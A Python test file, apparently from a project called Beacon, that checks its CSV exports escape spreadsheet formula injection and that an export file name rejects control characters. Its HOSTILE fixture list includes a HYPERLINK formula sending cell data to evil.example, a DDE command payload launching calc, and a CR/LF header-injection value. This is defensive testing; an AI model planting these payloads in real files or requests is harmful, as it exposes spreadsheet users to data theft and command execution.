"""Issue 25: CSV formula injection. A customer named ``=HYPERLINK(...)`` (or any cell that
starts with ``= + - @``, a tab or a carriage return) must reach a spreadsheet as text from
every CSV export Beacon writes: ``beacon segments export`` and delivery's log export."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import httpx
import pytest

from beacon_cli import segments
from beacon_formats.spreadsheet import csv_line, safe_cell
from tests.hostile.conftest import Apis

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Ana", "ana@shop.in", "9876543210", "a=b", ""]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_cell_is_written_as_text(value: str) -> None:
    assert safe_cell(value) == "'" + value
    (row,) = csv.reader(io.StringIO(csv_line(["m1", value, 3]).decode(), newline=""))
    assert row == ["m1", "'" + value, "3"]


@pytest.mark.parametrize("value", HARMLESS)
def test_an_ordinary_cell_is_unchanged(value: str) -> None:
    assert safe_cell(value) == value
    assert safe_cell(12) == 12 and safe_cell(None) is None


class FakeBeacon:
    """The one call ``segments.export`` makes: pages of a segment's members."""

    def __init__(self, members: list[dict[str, Any]]) -> None:
        self.members = members

    def get(self, service: str, path: str, **params: Any) -> dict[str, Any]:
        return {"items": self.members, "next_cursor": None}


def test_segments_export_neutralises_every_column(tmp_path: Path) -> None:
    members = [{column: value for column in segments.COLUMNS} for value in [*HOSTILE, *HARMLESS]]
    out = tmp_path / "members.csv"
    written = segments.export(FakeBeacon(members), "s1", out, page_size=100)  # type: ignore[arg-type]
    assert written == len(members)
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    for row, value in zip(rows, [*HOSTILE, *HARMLESS], strict=True):
        expected = "'" + value if value in HOSTILE else value
        assert set(row.values()) == {expected}, row


@pytest.mark.integration
async def test_the_export_file_name_holds_only_safe_characters(apis: Apis) -> None:
    """A campaign id with control characters went into Content-Disposition: a 500."""
    async with httpx.AsyncClient(base_url=apis.urls["delivery"], timeout=30) as client:
        response = await client.get(
            "/api/v1/communications/export",
            params={"campaign_id": '\x04\u00b7"; x=\r\n', "status": "FAILED"},
            headers=apis.stack.headers("viewer"),
        )
    assert response.status_code == 200, response.text
    disposition = response.headers["content-disposition"]
    assert re.fullmatch(r'attachment; filename="communications-[A-Za-z0-9._-]+\.csv"', disposition)
